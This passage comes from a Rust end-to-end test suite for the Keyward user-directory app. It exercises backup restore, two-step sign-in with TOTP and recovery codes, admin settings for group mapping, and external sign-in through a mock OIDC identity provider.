            Credential::Session(dir.sign_in("root", &secret(PASSWORD)).unwrap().access_token);
        let query = UserQuery {
            q: Some("user07".into()),
            ..Default::default()
        };
        let id = dir.list_users(&root, &query).unwrap().items[0].id.clone();
        dir.delete_user(&root, &id).unwrap();
    }
    set(&app, "#restore-form [name=path]", &path("backup.db"));
    app.click("#restore-confirm");
    app.click("dialog[open] button.primary, dialog[open] button.danger");
    app.wait_for_element("#sign-in-form");
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=root]");
    app.script("const s = document.querySelector('#user-search'); s.value = 'user07'; s.dispatchEvent(new Event('input')); return true");
    app.wait_for_element("#users-table tr[data-user=user07]");
}

#[test]
fn two_step_sign_in_is_set_up_asked_for_required_by_the_setting_and_removed_by_an_admin() {
    use crate::common::totp_code;
    use chrono::{TimeDelta, Utc};
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let mut ada_id = String::new();
    let prepared = Prepared::new(|dir, root| {
        ada_id = add_user(dir, root, "ada", "administrator").id;
    });
    let folder = prepared.db.parent().unwrap().to_path_buf();
    let set = |app: &App, selector: &str, value: &str| {
        app.script_with(
            "const c = document.querySelector(arguments[0]); c.value = arguments[1]; \
             c.dispatchEvent(new Event('input')); c.dispatchEvent(new Event('change')); return true",
            json!([selector, value]),
        );
    };
    let texts = |app: &App, selector: &str| -> Vec<String> {
        app.script_with(
            "return [...document.querySelectorAll(arguments[0])].map(e => e.textContent.trim())",
            json!([selector]),
        )
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap().to_owned())
        .collect()
    };
    let app = App::open(&prepared.db);
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=root]");

    // Account → Two-step sign-in: the QR code and the key; a wrong code is said on its field.
    app.click("#two-step-link");
    app.click("#totp-start");
    let secret_text = app.wait_text("#totp-secret").replace(' ', "");
    assert_eq!(secret_text.len(), 32, "160 bits in base32");
    app.wait_for_element("#two-step svg.qr path");
    let shot = app.screenshot("two-step-setup");
    // The QR code on the screen is what a phone reads: the key shown beside it, for Keyward.
    let read = Command::new("zbarimg")
        .args(["--quiet", "--raw"])
        .arg(&shot)
        .output()
        .expect("zbarimg (installed by ./scripts/test.sh)");
    let uri = String::from_utf8_lossy(&read.stdout);
    assert!(
        uri.starts_with("otpauth://totp/Keyward:root?")
            && uri.contains(&format!("secret={secret_text}"))
            && uri.contains("issuer=Keyward"),
        "{uri}"
    );
    app.fill("#totp-confirm-form", json!({"code": "000000"}));
    app.wait_for(
        "return document.querySelector('#totp-confirm-form [data-field=code] .field-error')\
         .textContent.includes('not right')",
    );
    let code = totp_code(&secret_text, Utc::now());
    app.fill("#totp-confirm-form", json!({"code": code.expose()}));
    app.wait_for_element("#recovery-codes li");
    let codes = texts(&app, "#recovery-codes li");
    assert_eq!(codes.len(), 10, "{codes:?}");
    let saved = folder.join("recovery.txt");
    set(&app, "#recovery-path", saved.to_str().unwrap());
    app.click("#recovery-save");
    app.wait_for("return [...document.querySelectorAll('.notice')].some(n => n.textContent.includes('saved'))");
    let file = std::fs::read_to_string(&saved).unwrap();
    assert!(codes.iter().all(|c| file.contains(c.as_str())), "{file}");
    app.screenshot("two-step-recovery-codes");
    app.click("#recovery-done");

    // Signing in now asks for the code after the password (the next step's: one is spent).
    app.sign_out();
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#code-form");
    app.screenshot("two-step-code");
    let next = totp_code(&secret_text, Utc::now() + TimeDelta::seconds(30));
    app.fill("#code-form", json!({"code": next.expose()}));
    app.wait_for_element("#users-table tr[data-user=root]");
    // …or a recovery code, once.
    app.sign_out();
    app.sign_in("root", PASSWORD);
    app.click("#use-recovery");
    app.fill("#code-form", json!({"code": codes[0]}));
    app.wait_for_element("#users-table tr[data-user=root]");

    // Settings: required for administrators. Ada, an Administrator, sets it up at sign-in.
    app.go("#/settings");
    app.wait_for_element("#settings-form [name=secondFactor]");
    set(
        &app,
        "#settings-form [name=secondFactor]",
        "REQUIRED_FOR_ADMINS",
    );
    app.click("#save-settings");
    app.wait_for("return [...document.querySelectorAll('.notice')].some(n => n.textContent.includes('Settings saved'))");
    app.sign_out();
    app.sign_in("ada", PASSWORD);
    let ada_secret = app.wait_text("#enrolment #totp-secret").replace(' ', "");
    app.screenshot("two-step-required");
    let code = totp_code(&ada_secret, Utc::now());
    app.fill("#totp-confirm-form", json!({"code": code.expose()}));
    app.wait_for_element("#recovery-codes li");
    assert_eq!(texts(&app, "#recovery-codes li").len(), 10);
    app.click("#recovery-done");
    app.wait_for_element("#users-table tr[data-user=ada]");

    // Root removes Ada's (a lost phone): her page says so before and after.
    app.sign_out();
    app.sign_in("root", PASSWORD);
    app.click("#use-recovery");
    app.fill("#code-form", json!({"code": codes[1]}));
    app.wait_for_element("#users-table tr[data-user=root]");
    app.go(&format!("#/users/{ada_id}"));
    assert_eq!(app.wait_text("#two-step-status"), "Two-step sign-in: on");
    app.screenshot("two-step-user");
    app.click("#remove-two-step");
    app.click("dialog[open] button.danger");
    app.wait_for("return document.querySelector('#two-step-status')?.textContent === 'Two-step sign-in: off'");
    let dir = prepared.directory();
    let root = Credential::Session(
        dir.finish_sign_in(
            &match dir.start_sign_in("root", &secret(PASSWORD)).unwrap() {
                SignInStep::SecondFactor(challenge) => challenge.challenge_token,
                step => panic!("{step:?}"),
            },
            &secret(&codes[2]),
        )
        .unwrap()
        .access_token,
    );
    assert!(!dir.get_user(&root, &ada_id).unwrap().second_factor);

    // Root's own: new recovery codes (the old ones stop working), then turned off, in the app.
    app.click("#two-step-link");
    app.wait_for_element("#two-step-on");
    app.fill("#recovery-new-form", json!({"code": codes[3]}));
    app.wait_for_element("#recovery-codes li");
    let fresh = texts(&app, "#recovery-codes li");
    assert_eq!(fresh.len(), 10);
    assert!(fresh.iter().all(|code| !codes.contains(code)), "{fresh:?}");
    app.click("#recovery-done");
    app.click("#two-step-link");
    // It asks first; then an old recovery code is refused on the field.
    app.fill("#totp-off-form", json!({"code": codes[4]}));
    app.click("dialog[open]:last-of-type button.danger");
    app.wait_for(
        "return document.querySelector('#totp-off-form [data-field=code] .field-error')\
         .textContent.includes('not right')",
    );
    // The setting still requires it of administrators: refused, and said why.
    app.fill("#totp-off-form", json!({"code": fresh[0]}));
    app.click("dialog[open]:last-of-type button.danger");
    app.wait_for(
        "return document.querySelector('#totp-off-form .form-error')\
         .textContent.includes('cannot be turned off')",
    );
    app.press(&["\u{E00C}"]);
    app.go("#/settings");
    app.wait_for_element("#settings-form [name=secondFactor]");
    set(&app, "#settings-form [name=secondFactor]", "OPTIONAL");
    app.click("#save-settings");
    app.wait_for("return [...document.querySelectorAll('.notice')].some(n => n.textContent.includes('Settings saved'))");
    app.click("#two-step-link");
    app.fill("#totp-off-form", json!({"code": fresh[0]}));
    app.click("dialog[open]:last-of-type button.danger");
    app.wait_for("return [...document.querySelectorAll('.notice')].some(n => n.textContent.includes('Two-step sign-in is off'))");
    app.sign_out();
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=root]");
}

#[test]
fn two_step_sign_in_works_from_the_app_on_a_server_over_postgresql_with_its_key_file() {
    use crate::common::totp_code;
    use chrono::{TimeDelta, Utc};
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let tmp = tempfile::TempDir::new().unwrap();
    let database = crate::common::postgres::server().new_database();
    crate::common::keyward_init(&database, Some("Rita Root"));
    let db = std::path::Path::new(&database);

    // Without a key the server says what it lacks, and nothing is set up.
    let port = crate::server::support::free_port();
    let keyless = Serve::start(db, port);
    let app = App::open(&tmp.path().join("laptop.db"));
    signed_in_through_a_connection(&app, "Team database", &keyless.url);
    app.click("#two-step-link");
    app.click("#totp-start");
    app.wait_for(
        "return [...document.querySelectorAll('.notice')].some(n => \
         n.textContent.includes('KEYWARD_SECRET_KEY_FILE'))",
    );
    app.press(&["\u{E00C}"]);
    app.sign_out();
    drop(keyless);

    // With the key `keyward secret-key` wrote, on the same port: set up, then asked for.
    let key = tmp.path().join("team.key");
    let made = Command::new(env!("CARGO_BIN_EXE_keyward"))
        .arg("secret-key")
        .arg(&key)
        .output()
        .unwrap();
    assert!(made.status.success(), "{made:?}");
    let server = Serve::spawn(
        db,
        port,
        &[],
        &[("KEYWARD_SECRET_KEY_FILE", key.to_str().unwrap())],
    );
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=root]");
    app.click("#two-step-link");
    app.click("#totp-start");
    let secret_text = app.wait_text("#totp-secret").replace(' ', "");
    app.fill(
        "#totp-confirm-form",
        json!({"code": totp_code(&secret_text, Utc::now()).expose()}),
    );
    app.wait_for_element("#recovery-codes li");
    app.click("#recovery-done");
    app.sign_out();
    app.sign_in("root", PASSWORD);
    let next = totp_code(&secret_text, Utc::now() + TimeDelta::seconds(30));
    app.fill("#code-form", json!({"code": next.expose()}));
    app.wait_for_element("#users-table tr[data-user=root]");
    app.screenshot("two-step-server-signed-in");
    drop(server);
}

#[test]
fn provider_groups_are_mapped_in_settings_and_marked_on_an_external_users_page() {
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let prepared = Prepared::new(|dir, root| {
        for (name, role) in [
            ("Readers", "viewer"),
            ("Operators", "operator"),
            ("Auditors", "viewer"),
        ] {
            dir.create_group(
                root,
                NewGroup {
                    name: name.into(),
                    roles: vec![role.into()],
                    ..Default::default()
                },
            )
            .unwrap();
        }
        dir.create_user(
            root,
            NewUser {
                user_name: "ext".into(),
                display_name: "Erin External".into(),
                email: "erin@example.com".into(),
                user_type: Some(UserType::External),
                roles: vec!["viewer".into()],
                ..Default::default()
            },
        )
        .unwrap();
    });
    let groups = prepared
        .directory()
        .list_groups(&root_of(&prepared))
        .unwrap();
    let id_of = |name: &str| groups.iter().find(|g| g.name == name).unwrap().id.clone();
    let app = App::open(&prepared.db);
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#nav a[data-section=settings]");
    app.go("#/settings");
    app.wait_for_element("#add-mapping");
    // Two lines: one left incomplete, which the core refuses on the mapping, then completed.
    app.click("#add-mapping");
    app.click("#add-mapping");
    app.script_with(
        "const lines = document.querySelectorAll('.mapping-line');
         lines[0].querySelector('[name=claim]').value = 'keyward-readers';
         lines[0].querySelector('[name=groupId]').value = arguments[0];
         lines[1].querySelector('[name=claim]').value = 'keyward-ops';
         return true",
        json!([id_of("Readers")]),
    );
    app.click("#save-settings");
    let error = app.wait_text("[data-field=providerGroups] .field-error");
    assert!(error.contains("Keyward group"), "{error}");
    app.script_with(
        "document.querySelectorAll('.mapping-line')[1].querySelector('[name=groupId]').value = arguments[0];
         return true",
        json!([id_of("Operators")]),
    );
    app.click("#save-settings");
    app.wait_for("return document.body.textContent.includes('Settings saved.')");
    let saved = prepared
        .directory()
        .get_settings(&root_of(&prepared))
        .unwrap()
        .provider_groups;
    assert_eq!(saved.len(), 2, "{saved:?}");
    app.go("#/users");
    app.go("#/settings");
    app.wait_for("return document.querySelectorAll('.mapping-line').length === 2");
    app.script("document.getElementById('provider-groups').scrollIntoView(); return true");
    app.screenshot("settings-provider-groups");

    // The external user's page: mapped groups are marked and cannot be ticked by hand.
    app.go("#/users");
    app.click("#users-table tr[data-user=ext]");
    app.wait_for("return document.body.textContent.includes('(from the identity provider)')");
    let locked = app.script(
        "return [...document.querySelectorAll('[data-field=groups] input')]
           .filter((c) => c.disabled).map((c) => c.nextSibling.textContent)",
    );
    assert_eq!(
        locked,
        json!([
            "Operators (from the identity provider)",
            "Readers (from the identity provider)"
        ])
    );
    assert!(app
        .text("[data-field=roles]")
        .contains("cannot be changed here"));
    app.screenshot("user-provider-groups");
}

/// A session of `root` on a prepared file.
fn root_of(prepared: &Prepared) -> Credential {
    Credential::Session(
        prepared
            .directory()
            .sign_in("root", &secret(PASSWORD))
            .unwrap()
            .access_token,
    )
}

/// The addresses the app sent "the system browser" to: `BROWSER` is a script that writes
/// them down (webbrowser honours `$BROWSER` on Linux), and the test plays the browser.
struct RecordingBrowser {
    script: std::path::PathBuf,
    opened: std::path::PathBuf,
}

impl RecordingBrowser {
    fn new(dir: &std::path::Path) -> RecordingBrowser {
        let script = dir.join("record-browser");
        let opened = dir.join("opened.txt");
        std::fs::write(
            &script,
            format!(
                "#!/bin/sh\nprintf '%s\\n' \"$1\" >> '{}'\n",
                opened.display()
            ),
        )
        .unwrap();
        let made = Command::new("chmod")
            .arg("+x")
            .arg(&script)
            .status()
            .unwrap();
        assert!(made.success());
        RecordingBrowser { script, opened }
    }

    /// The `n`th address opened (from 1), once it has been.
    fn address(&self, n: usize) -> String {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let text = std::fs::read_to_string(&self.opened).unwrap_or_default();
            if let Some(line) = text.lines().nth(n - 1) {
                return line.to_owned();
            }
            assert!(Instant::now() < deadline, "the app opened no browser");
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

/// The loopback address the app waits at, from the start address it sent the browser to.
fn redirect_of(start: &str) -> String {
    let url = reqwest::Url::parse(start).unwrap();
    url.query_pairs()
        .find(|(name, _)| name == "redirect_uri")
        .map(|(_, value)| value.into_owned())
        .expect("a redirect_uri")
}

/// In headless Chromium, from the server's start address through the provider's login page
/// (as `login`) back to the app's loopback address: the page the app answered with.
fn sign_in_at_the_provider(
    browser: &crate::server::browser::Browser,
    start: &str,
    login: &str,
    screenshot: &str,
) -> String {
    browser.goto(start);
    browser.wait_for_page();
    // The provider's login page, after redirects (a loaded machine may take a while).
    let deadline = Instant::now() + Duration::from_secs(30);
    while browser.script(
        "return !!document.querySelector('input[name=login]')",
        json!([]),
    ) != json!(true)
    {
        assert!(
            Instant::now() < deadline,
            "not the provider's login page: {} {}",
            browser.current_url(),
            browser.script("return document.body.innerText", json!([]))
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    browser.type_into("input[name=login]", login);
    browser.type_into("input[name=password]", "any");
    browser.screenshot(&screenshot_path(&format!("{screenshot}-provider")));
    browser.click("button[type=submit]");
    let loopback = redirect_of(start);
    let deadline = Instant::now() + Duration::from_secs(30);
    while !(browser.current_url().starts_with(&loopback)
        && browser.script("return !!document.getElementById('message')", json!([])) == json!(true))
    {
        assert!(
            Instant::now() < deadline,
            "the browser did not come back to the app: {}",
            browser.current_url()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    browser.screenshot(&screenshot_path(screenshot));
    browser.text("#message")
}

fn screenshot_path(name: &str) -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/output/e2e")
        .join(format!("{name}.png"))
}

#[test]
fn an_external_user_signs_in_from_the_app_through_the_identity_provider_in_the_browser() {
    use crate::server::browser::{Browser, BROWSER_LOCK};
    use crate::server::oidc::{Provider, CLIENT_SECRET};
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let _one_browser = BROWSER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let prepared = Prepared::new(|dir, root| {
        let readers = dir
            .create_group(
                root,
                NewGroup {
                    name: "Readers".into(),
                    roles: vec!["viewer".into()],
                    ..Default::default()
                },
            )
            .unwrap();
        let version = dir.get_settings(root).unwrap().update_version;
        dir.update_settings(
            root,
            SettingsUpdate {
                update_version: version,
                provider_groups: Some(vec![ProviderGroup {
                    claim: "staff".into(),
                    group_id: readers.id,
                }]),
                ..Default::default()
            },
        )
        .unwrap();
        for (name, email) in [("erin", "erin@example.com"), ("una", "una@example.com")] {
            dir.create_user(
                root,
                NewUser {
                    user_name: name.into(),
                    display_name: format!("{name} External"),
                    email: email.into(),
                    user_type: Some(UserType::External),
                    ..Default::default()
                },
            )
            .unwrap();
        }
    });
    let provider_port = crate::server::support::free_port();
    let issuer = format!("http://127.0.0.1:{provider_port}");
    let port = crate::server::support::free_port();
    let server = Serve::spawn(
        &prepared.db,
        port,
        &[
            "--oidc-issuer",
            &issuer,
            "--oidc-client-id",
            "keyward",
            "--oidc-name",
            "Contoso SSO",
        ],
        &[("KEYWARD_OIDC_CLIENT_SECRET", CLIENT_SECRET)],
    );
    let _provider = Provider::start(
        provider_port,
        &server.url,
        json!({
            "sub-erin": {"email": "erin@example.com", "email_verified": true, "groups": ["staff"]},
            "sub-una": {"email": "una@example.com", "email_verified": false},
        }),
    );
    let tmp = tempfile::TempDir::new().unwrap();
    let recorder = RecordingBrowser::new(tmp.path());
    let app = App::launch_with(
        &["--db", prepared.db.to_str().unwrap()],
        &tmp.path().join("config"),
        &[("BROWSER", recorder.script.to_str().unwrap())],
    );

    // On the local file: no provider, and a line saying where external users sign in.
    app.wait_for_element("#sign-in-form");
    assert!(app.text("#external-note").contains("Keyward server"));
    assert!(!app.exists("#providers"));
    app.screenshot("provider-00-local-file");

    // On the server: "Sign in with Contoso SSO" under the password form.
    app.click("#connections-link");
    app.click("#new-profile");
    app.fill(
        "#profile-form",
        json!({"name": "Team server", "url": &server.url}),
    );
    let row = "#profiles-table tr[data-profile='Team server']";
    app.wait_for_element(row);
    app.click(&format!("{row} .connect"));
    app.wait_for_element("#providers button[data-provider=default]");
    assert_eq!(
        app.text("#providers button[data-provider=default]"),
        "Sign in with Contoso SSO"
    );
    assert!(!app.exists("#external-note"));
    app.screenshot("provider-01-sign-in");

    // The browser is sent to the server's start address; Cancel ends the wait and closes the
    // loopback address.
    app.click("#providers button[data-provider=default]");
    let first = recorder.address(1);
    assert!(
        first.starts_with(&format!("{}/auth/oidc/default/start?", server.url)),
        "{first}"
    );
    let loopback = redirect_of(&first);
    assert!(loopback.starts_with("http://127.0.0.1:"), "{loopback}");
    app.wait_for(
        "return document.getElementById('provider-waiting')?.textContent.includes('browser window')",
    );
    app.screenshot("provider-02-waiting");
    app.click("#provider-cancel");
    app.wait_for_element("#sign-in-form");
    let closed = reqwest::Url::parse(&loopback).unwrap();
    let address = format!("{}:{}", closed.host_str().unwrap(), closed.port().unwrap());
    let deadline = Instant::now() + Duration::from_secs(5);
    while std::net::TcpStream::connect(&address).is_ok() {
        assert!(
            Instant::now() < deadline,
            "the loopback address still listens after Cancel"
        );
        std::thread::sleep(Duration::from_millis(50));
    }

    // Again, through the provider's login page in the browser: the tab says it can be closed,
    // and the app is signed in as erin, with the group her provider's claim maps to.
    let browser = Browser::start();
    app.click("#providers button[data-provider=default]");
    let second = recorder.address(2);
    assert_ne!(redirect_of(&second), loopback, "a new loopback address");
    let page = sign_in_at_the_provider(&browser, &second, "sub-erin", "provider-03-browser-done");
    assert!(page.contains("You can close this tab"), "{page}");
    app.wait_for_element("#users-table tr[data-user=erin]");
    // Her password and second step are the provider's: the app offers neither.
    assert!(!app.exists("#change-password-link"));
    assert!(!app.exists("#two-step-link"));
    app.screenshot("provider-04-signed-in");
    let erin = prepared
        .directory()
        .find_user(&root_of(&prepared), "erin")
        .unwrap();
    assert_eq!(erin.status, UserStatus::Active);
    assert_eq!(erin.groups.len(), 1, "{erin:?}");

    // A refusal reaches the app's screen with the reason, and the browser tab says the same.
    // (Another browser: this one's session at the provider would sign erin in again.)
    drop(browser);
    let browser = Browser::start();
    app.sign_out();
    app.wait_for_element("#providers button[data-provider=default]");
    app.click("#providers button[data-provider=default]");
    let third = recorder.address(3);
    let page = sign_in_at_the_provider(&browser, &third, "sub-una", "provider-05-browser-refused");
    assert!(page.contains("did not sign you in"), "{page}");
    let shown = app.wait_text("#provider-error");
    assert!(shown.contains("verified"), "{shown}");
    app.screenshot("provider-06-refused");
    drop(server);
}
